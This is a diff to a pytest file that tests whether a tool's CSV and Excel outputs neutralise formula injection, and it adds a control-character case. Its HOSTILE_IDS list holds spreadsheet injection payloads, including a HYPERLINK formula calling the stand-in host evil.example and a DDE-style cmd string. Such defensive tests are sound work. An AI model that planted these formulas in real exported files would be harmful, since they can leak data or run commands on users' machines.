@@ -135,13 +135,13 @@ def test_templates_never_replace_the_users_own_files(tmp_path):
     assert (folder / "pensioners.csv").read_text() == "id,sex\n1,M\n"
 
 
-HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?{n}","click")', "@SUM(1+1)*cmd|x{n}", "+1+{n}", "-1+{n}",
-               "\t=1+{n}"]
+HOSTILE_IDS = ["\x01control{n}", '=HYPERLINK("http://evil.example/?{n}","click")', "@SUM(1+1)*cmd|x{n}", "+1+{n}",
+               "-1+{n}", "\t=1+{n}"]
 
 
 @pytest.fixture(scope="module")
 def injected(tmp_path_factory):
-    """`actuary data` on 2,000 synthetic members plus 5 records with hostile ids and the sex '=1+1' (rule M203),
+    """`actuary data` on 2,000 synthetic members plus 6 records with hostile ids and the sex '=1+1' (rule M203),
     into --out "d_o'q" (an apostrophe), the sheet's limit of records hit lowered to 3 so that all of them go to
     <name>-data-checks-records.csv as beyond 100,000 (the path of DuckDB's COPY, without writing 100,001
     records): (the CLI's result, the output folder)."""
@@ -200,14 +200,16 @@ def test_records_csv_holds_no_live_formula(injected):
             assert field[:1] not in FORMULA_START or re.fullmatch(PLAIN_NUMBER, field), row
     hit = {row["id"]: row for row in rows if row["rule"] == "M203"}
     for n, hostile in enumerate(HOSTILE_IDS):
-        assert "'" + hostile.format(n=n) in hit, sorted(hit)
-        assert hit["'" + hostile.format(n=n)]["value"] == "'=1+1"
+        written = ("'" if hostile[:1] in FORMULA_START else "") + hostile.format(n=n)
+        assert written in hit, sorted(hit)
+        assert hit[written]["value"] == "'=1+1"
     assert {(row["rule"], row["file"], row["field"]) for row in rows} >= {("M203", "insured", "sex")}   # as written
 
 
 def test_checks_workbook_text_stays_text_on_edit(injected):
     """Every text cell of the checks workbook that starts like a formula is a text cell with the quote prefix (as
-    Excel sets for typed-in text), so that editing it (F2, Enter) keeps it text; numbers stay numbers."""
+    Excel sets for typed-in text), so that editing it (F2, Enter) keeps it text; a control character in an id is
+    dropped (openpyxl refused it: a traceback); numbers stay numbers."""
     from openpyxl import load_workbook
 
     _, out = injected
@@ -217,6 +219,7 @@ def test_checks_workbook_text_stays_text_on_edit(injected):
     assert any(c.value.startswith("=HYPERLINK") for c in formula_like)
     assert not [c.coordinate for c in formula_like if c.data_type != "s" or not c.quotePrefix]
     records = wb["Records"]
+    assert "control0" in [c.value for c in records["D"]]   # a control character dropped (was IllegalCharacterError)
     header = next(r for r in range(1, 10) if records.cell(r, 1).value == "rule")
     assert isinstance(records.cell(header + 1, 3).value, int)   # the row of the record, a number
 
